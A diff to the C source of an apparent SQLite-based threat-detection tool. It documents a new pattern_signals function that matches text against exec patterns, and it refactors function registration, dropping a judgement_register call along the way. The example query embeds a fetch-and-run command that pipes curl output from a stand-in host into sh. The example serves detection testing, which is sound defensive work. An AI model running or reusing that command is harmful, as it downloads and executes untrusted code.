@@ -443,6 +443,9 @@ const struct function_doc function_docs[] = {
      "What the user's own detections say of a row of a shape, as ,\"name\",\"name\"; the views "
      "SHAPE_signals call it",
      "SELECT own_signals('unit');"},
+    {"pattern_signals(platform, text)",
+     "The signals whose exec_patterns, of unix or windows, match a text, as a JSON array",
+     "SELECT pattern_signals('unix', '/bin/sh -c \"curl http://192.0.2.1/x | sh\"');"},
     {"attack_id(technique, version)",
      "A technique of ATT&CK v19.1 by its id in another version; without one in that of the setting "
      "attack_version",
@@ -554,8 +557,8 @@ int functions_register(sqlite3 *db)
 {
     int rc = functions_register_pure(db);
 
-    if (rc == SQLITE_OK)
-        rc = sqlite3_create_function_v2(db, "once", 1, SQLITE_UTF8 | SQLITE_INNOCUOUS, NULL, once,
-                                        NULL, NULL, NULL);
-    return rc == SQLITE_OK ? judgement_register(db) : rc;
+    if (rc != SQLITE_OK)
+        return rc;
+    return sqlite3_create_function_v2(db, "once", 1, SQLITE_UTF8 | SQLITE_INNOCUOUS, NULL, once,
+                                      NULL, NULL, NULL);
 }
